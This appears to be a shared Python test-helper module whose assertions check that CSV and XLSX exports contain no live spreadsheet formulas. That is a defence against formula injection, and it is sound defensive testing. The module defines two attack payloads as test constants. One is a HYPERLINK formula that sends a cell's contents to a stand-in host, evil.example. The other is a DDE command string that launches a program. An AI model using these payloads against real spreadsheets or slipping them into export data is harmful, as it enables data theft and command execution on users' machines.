"""Assertions shared by the export tests of every app: a download holds no live spreadsheet formula."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from openpyxl import load_workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")'
CMD = "=cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_cells(content: bytes) -> list[list[str]]:
    """The cells of a CSV download, each checked: text that would start a formula begins with `'`."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    for row in rows:
        for value in row:
            assert not (value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value)), value
    return rows


def xlsx_cells(content: bytes) -> list[Any]:
    """The cells of every sheet of an XLSX download, each checked: none is a formula."""
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    for cell in cells:
        assert cell.data_type != "f", cell.value
        text = cell.value if isinstance(cell.value, str) else ""
        assert not (text.startswith(TRIGGERS) and not _NUMBER.fullmatch(text)), text
    return cells
